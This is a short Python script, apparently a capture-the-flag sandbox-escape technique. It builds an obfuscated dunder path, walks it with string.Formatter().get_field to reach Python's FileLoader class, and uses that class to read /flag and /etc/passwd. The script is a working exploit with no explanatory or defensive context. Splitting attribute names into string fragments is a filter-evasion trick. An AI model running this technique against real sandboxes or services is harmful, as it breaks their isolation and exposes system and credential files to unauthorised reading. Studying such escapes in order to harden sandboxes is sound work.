# technique: string.Formatter().get_field walks a dunder path built with %-format to a loader that reads any file
import string

fm = string.Formatter()
path = "0.%s%s%s.%s%s%s.%s%s%s" % ("__c", "las", "s__", "__b", "as", "e__", "__su", "bcla", "sses__")
subs = fm.get_field(path, ((),), {})[0]()
for c in subs:
    if c.__name__ == "%sLoader" % "File":
        data = c.get_data(None, "/%s" % "flag")
        print(data)
        pw = c.get_data(None, "/etc/%s" % "passwd")
        print(pw.decode())
        break
